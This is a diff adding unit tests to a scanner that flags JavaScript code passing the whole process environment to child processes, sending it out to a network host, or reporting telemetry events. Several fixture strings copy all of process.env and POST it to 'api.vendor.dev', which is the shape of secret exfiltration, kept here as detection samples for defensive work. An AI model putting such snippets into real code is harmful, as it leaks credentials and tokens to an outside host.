@@ -3,6 +3,7 @@ package dev.assay.scanners.javascript;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.assay.scanners.finding.FindingKind;
+import dev.assay.scanners.profile.Fact;
 
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -101,6 +102,151 @@ class CapabilitiesTest {
         assertThat(facts)
                 .singleElement()
                 .satisfies(fact -> assertThat(fact.detail()).containsEntry("passedToChild", true));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "spawn('x', [], {env: Object.fromEntries(Object.entries(process.env).filter(([, v]) => v !== undefined))})",
+                "spawn('x', [], {env: Object.assign({}, process.env, {A: '1'})})",
+                "spawn('x', [], {env: structuredClone(process.env)})",
+                "const env = Object.fromEntries(Object.entries(process.env).map(([k, v]) => [k, v ?? ''])); spawn('x', [], {env})",
+                "const childEnv = Object.keys(process.env).reduce((all, k) => { all[k] = process.env[k]; return all }, {}); spawn('x', [], {env: childEnv})",
+                "const env = {}; for (const [k, v] of Object.entries(process.env)) env[k] = v; spawn('x', [], {env})",
+            })
+    void copyOfTheEnvironmentForAChildIsMarkedHoweverItIsMade(String code) {
+        var facts =
+                Sample.of("import {spawn} from 'child_process';" + code)
+                        .facts(FindingKind.ENV_ACCESS);
+
+        assertThat(facts)
+                .filteredOn(fact -> fact.value().equals("*"))
+                .anySatisfy(fact -> assertThat(fact.detail()).containsEntry("passedToChild", true))
+                .allSatisfy(
+                        fact ->
+                                assertThat(fact.detail())
+                                        .satisfiesAnyOf(
+                                                is -> assertThat(is).containsKey("passedToChild"),
+                                                is ->
+                                                        assertThat(is)
+                                                                .containsEntry(
+                                                                        "how", "computed name")));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "fetch(at, {body: JSON.stringify({env: process.env})})",
+                "fetch(at, {body: JSON.stringify({env: Object.fromEntries(Object.entries(process.env))})})",
+                "const env = JSON.stringify({...process.env}); fetch(at, {body: env})",
+            })
+    void environmentThatIsWrittenOutIsNotTakenForThatOfAChild(String code) {
+        assertThat(
+                        Sample.of("const at = 'https://api.vendor.dev';" + code)
+                                .facts(FindingKind.ENV_ACCESS))
+                .isNotEmpty()
+                .allSatisfy(fact -> assertThat(fact.detail()).doesNotContainKey("passedToChild"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "send(Object.fromEntries(Object.entries(process.env)))",
+                "send(Object.entries(process.env).filter(([k]) => /KEY/.test(k)))",
+                "const all = {}; for (const k in process.env) all[k] = process.env[k]; send(all)",
+                "const all = {}; Object.keys(process.env).forEach(k => { all[k] = process.env[k] }); send(all)",
+                "const all = {}; for (const [k, v] of Object.entries(process.env)) all[k] = v; send(all)",
+                "const all = {}; Object.entries(process.env).forEach(([k, v]) => { all[k] = v }); send(all)",
+                "send(Object.keys(process.env).reduce((a, k) => ({...a, [k]: process.env[k]}), {}))",
+                "send(Object.keys(process.env).reduce((a, k) => { a[k] = process.env[k]; return a }, {}))",
+                "send(structuredClone(process.env))",
+                "send({...process.env})",
+                "send({data: {...process.env}})",
+                "send(Object.assign({}, process.env))",
+                "const all = {}; Object.assign(all, process.env); send(all)",
+                "const list = []; for (const [k, v] of Object.entries(process.env)) list.push(`${k}=${v}`); send(list)",
+                "const list = []; for (const k in process.env) list.push(k + '=' + process.env[k]); send(list)",
+                "const list = []; Object.entries(process.env).forEach(([k, v]) => list.push(k + v)); send(list)",
+                "let text = ''; for (const k in process.env) text += k + process.env[k]; send(text)",
+                "let text = ''; for (const [k, v] of Object.entries(process.env)) text += `${k}=${v}`; send(text)",
+                "const {PATH, ...rest} = process.env; send(rest)",
+                "send(Object.values(process.env).join())",
+                "send(Reflect.ownKeys(process.env).map(k => [k, process.env[k]]))",
+                "send(JSON.parse(JSON.stringify(process.env)))",
+                "send([...Object.entries(process.env)])",
+                "const m = new Map(Object.entries(process.env)); send([...m])",
+                "const m = new Map(); for (const k in process.env) m.set(k, process.env[k]); send([...m])",
+            })
+    void wholeEnvironmentThatReachesAHostIsAFlowHoweverItIsCopied(String code) {
+        var sample =
+                Sample.of(
+                        "const send = (data) => fetch('https://api.vendor.dev', {method: 'POST', body: JSON.stringify(data)});"
+                                + code);
+
+        assertThat(sample.values(FindingKind.SECRET_FLOW)).contains("* -> api.vendor.dev");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "send(Object.keys(settings).reduce((a, k) => ({...a, [k]: settings[k]}), {}))",
+                "const all = {}; for (const k of Object.keys(process.env)) if (k === 'x') all.seen = true; send(all)",
+                "const list = []; for (const k in settings) list.push(settings[k]); send(list)",
+                "for (const k in process.env) log(k); send({ok: true})",
+            })
+    void copyOfSomethingElseIsNoFlowOfTheEnvironment(String code) {
+        var sample =
+                Sample.of(
+                        "const send = (data) => fetch('https://api.vendor.dev', {method: 'POST', body: JSON.stringify(data)});"
+                                + code);
+
+        assertThat(sample.values(FindingKind.SECRET_FLOW)).doesNotContain("* -> api.vendor.dev");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "import {PostHog} from 'posthog-node'; const p = new PostHog('k'); p.capture({distinctId: id, event: 'cap_notified'})",
+                "import posthog from 'posthog-js'; posthog.capture('cap_notified', {a: 1})",
+                "import Mixpanel from 'mixpanel'; const m = Mixpanel.init('k'); m.track('cap_notified')",
+                "export function sendTelemetry(event) { fetch('https://t.vendor.dev', {body: JSON.stringify(event)}) } sendTelemetry({name: 'cap_notified'})",
+                "telemetry.track('cap_notified')",
+                "const NAME = 'cap_' + 'notified'; analytics.logEvent(NAME)",
+            })
+    void eventOfAUsageReportIsToldByName(String code) {
+        assertThat(Sample.of(code).facts(FindingKind.TELEMETRY))
+                .filteredOn(fact -> "event".equals(fact.detail().get("what")))
+                .extracting(Fact::value)
+                .containsExactly("cap_notified");
+    }
+
+    @Test
+    void eventInAFileOfTelemetryIsToldByName() {
+        var facts =
+                Sample.of("import './core/telemetry.js'")
+                        .with(
+                                "core/telemetry.js",
+                                "function dispatch(e) { fetch('https://t.vendor.dev', {body: JSON.stringify({events: [e]})}) } export function capped() { dispatch({name: 'cap_notified', at: Date.now()}) }")
+                        .facts(FindingKind.TELEMETRY);
+
+        assertThat(facts)
+                .filteredOn(fact -> "event".equals(fact.detail().get("what")))
+                .extracting(Fact::value)
+                .containsExactly("cap_notified");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "bus.dispatch({type: 'opened'})",
+                "emitter.emit('opened')",
+                "stack.push({name: 'opened'})",
+                "logger.log('opened')",
+                "import {PostHog} from 'posthog-node'; new PostHog('k').shutdown('opened')",
+            })
+    void eventOfAnythingElseIsNone(String code) {
+        assertThat(Sample.of(code).facts(FindingKind.TELEMETRY))
+                .noneMatch(fact -> "event".equals(fact.detail().get("what")));
     }
 
     @Test
